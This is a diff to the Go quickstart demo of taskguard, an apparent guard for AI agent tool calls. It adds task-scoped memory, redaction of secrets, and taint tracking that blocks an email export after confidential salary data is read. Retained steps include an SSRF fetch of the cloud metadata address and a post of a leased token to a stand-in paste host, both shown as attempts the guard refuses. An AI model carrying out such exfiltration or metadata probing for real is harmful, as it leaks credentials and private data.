@@ -2,7 +2,8 @@
 // taskguard task and prints every decision the guard makes: an allowed
 // fetch, SSRF attempts against the cloud metadata address, a path traversal,
 // a file write that a (scripted) person approves, and a task-bound secret
-// lease: used for one call, refused elsewhere, dead when the task ends.
+// lease: used for one call, refused elsewhere, dead when the task ends; and
+// per-task memory whose taint blocks an export after confidential data.
 package main
 
 import (
@@ -17,6 +18,7 @@ import (
 	"time"
 
 	"github.com/taskguard/taskguard/authz"
+	"github.com/taskguard/taskguard/contextguard"
 	"github.com/taskguard/taskguard/secrets"
 )
 
@@ -40,6 +42,8 @@ type postArgs struct {
 	URL  string
 	Body string
 }
+type queryArgs struct{ Table string }
+type mailArgs struct{ To, Body string }
 
 func run(out io.Writer) error {
 	policy, err := authz.ParsePolicy("policy.yaml", policyYAML)
@@ -95,6 +99,23 @@ func run(out io.Writer) error {
 		return "201 Created", nil
 	})
 
+	query := authz.Wrap(g, authz.Tool[queryArgs]{
+		Name: "db.query", Intent: "read",
+		Describe: func(a queryArgs) (authz.Call, error) {
+			return authz.Call{Destination: "db://" + a.Table, Sensitivity: authz.Confidential}, nil
+		},
+	}, func(ctx context.Context, a queryArgs) (string, error) {
+		return "alice: 120k, bob: 115k", nil
+	})
+	mail := authz.Wrap(g, authz.Tool[mailArgs]{
+		Name: "mail.send", Intent: "export",
+		Describe: func(a mailArgs) (authz.Call, error) {
+			return authz.Call{Destination: "mailto:" + a.To, Sensitivity: authz.Internal}, nil
+		},
+	}, func(ctx context.Context, a mailArgs) (string, error) {
+		return "sent", nil
+	})
+
 	// Secrets stay in the broker; tasks get short-lived, task-bound leases.
 	broker, err := secrets.NewBroker(g, secrets.Static(map[string]string{
 		"github-token": "ghp_quickstartExampleToken0123456789",
@@ -103,12 +124,15 @@ func run(out io.Writer) error {
 		return err
 	}
 	defer broker.Close()
+	// Memory is per task, and every entry passes through the broker so
+	// live secrets never reach it.
+	store := contextguard.NewStore(contextguard.WithRedactor(broker))
 
 	ctx, task, err := g.Begin(context.Background(), authz.TaskSpec{
 		Agent:     authz.Agent{ID: "spiffe://example.org/agent/researcher"},
 		Purpose:   "summarise the taskguard repository",
-		Intents:   []string{"read", "search", "write", "secret.read"},
-		Tools:     []string{"http.*", "fs.*", "secrets.lease"},
+		Intents:   []string{"read", "search", "write", "export", "secret.read"},
+		Tools:     []string{"http.*", "fs.*", "db.*", "mail.*", "secrets.lease"},
 		Clearance: authz.Confidential,
 		TTL:       5 * time.Minute,
 		Labels:    map[string]string{"workdir": "/workspace"},
@@ -117,7 +141,19 @@ func run(out io.Writer) error {
 		return err
 	}
 	defer task.End()
-	fmt.Fprintf(out, "task for %s\n  intents read, search, write, secret.read; tools http.*, fs.*, secrets.lease\n\n", task.Agent().ID)
+	fmt.Fprintf(out, "task for %s\n  intents read, search, write, export, secret.read; tools http.*, fs.*, db.*, mail.*, secrets.lease\n\n", task.Agent().ID)
+	mem := store.For(task)
+	remember := func(source, content string, s authz.Sensitivity, trusted bool) (string, error) {
+		if err := mem.Add(ctx, contextguard.Entry{Role: "tool", Source: source, Content: content,
+			Sensitivity: s, Trusted: trusted}); err != nil {
+			return "", err
+		}
+		es, err := mem.Entries()
+		if err != nil {
+			return "", err
+		}
+		return fmt.Sprintf("memory now holds %d entries; the last reads %q", len(es), es[len(es)-1].Content), nil
+	}
 
 	var lease *secrets.Lease
 	withToken := func(f func(token string) (string, error)) (string, error) {
@@ -134,8 +170,12 @@ func run(out io.Writer) error {
 		say  string
 		call func() (string, error)
 	}{
-		{"fetch the project page", func() (string, error) {
-			return fetch(ctx, fetchArgs{URL: "https://API.GitHub.com./repos/taskguard/taskguard"})
+		{"fetch the project page (web content is untrusted)", func() (string, error) {
+			page, err := fetch(ctx, fetchArgs{URL: "https://API.GitHub.com./repos/taskguard/taskguard"})
+			if err != nil {
+				return "", err
+			}
+			return remember("https://api.github.com", page+": taskguard README", authz.Public, false)
 		}},
 		{"SSRF: fetch cloud metadata", func() (string, error) {
 			return fetch(ctx, fetchArgs{URL: "http://169.254.169.254/latest/meta-data/"})
@@ -170,10 +210,33 @@ func run(out io.Writer) error {
 				return post(ctx, postArgs{URL: "https://paste.example.net/new", Body: token})
 			})
 		}},
-		{"a tool echoes the token; it is redacted before the model sees it", func() (string, error) {
+		{"a tool echoes the token; memory stores it redacted", func() (string, error) {
 			return withToken(func(token string) (string, error) {
-				return broker.Redact("401 Unauthorized for token " + token), nil
+				return remember("http.post", "401 Unauthorized for token "+token, authz.Internal, false)
 			})
+		}},
+		{"read the salary table (confidential)", func() (string, error) {
+			rows, err := query(ctx, queryArgs{Table: "salaries"})
+			if err != nil {
+				return "", err
+			}
+			return remember("db://salaries", rows, authz.Confidential, true)
+		}},
+		{"export a summary by email after reading confidential data", func() (string, error) {
+			return mail(ctx, mailArgs{To: "partner@example.net", Body: "summary"})
+		}},
+		{"a second task of the same agent starts with its own, empty memory", func() (string, error) {
+			_, next, err := g.Begin(context.Background(), authz.TaskSpec{Agent: task.Agent()})
+			if err != nil {
+				return "", err
+			}
+			defer next.End()
+			theirs, err := store.For(next).Entries()
+			if err != nil {
+				return "", err
+			}
+			mine, _ := mem.Entries()
+			return fmt.Sprintf("first task: %d entries, second task: %d entries", len(mine), len(theirs)), nil
 		}},
 		{"another agent's task asks for the same token", func() (string, error) {
 			ictx, intern, err := g.Begin(context.Background(), authz.TaskSpec{
@@ -188,10 +251,11 @@ func run(out io.Writer) error {
 			_, err = broker.Lease(ictx, "github-token")
 			return "", err
 		}},
-		{"the task ends: its lease dies with it", func() (string, error) {
+		{"the task ends: its lease and its memory die with it", func() (string, error) {
 			task.End()
 			err := lease.Use(func([]byte) error { return nil })
-			return fmt.Sprintf("using the lease now: %v", err), nil
+			_, merr := mem.Entries()
+			return fmt.Sprintf("using the lease now: %v; reading the memory: %v", err, merr), nil
 		}},
 	}
 	for i, s := range steps {
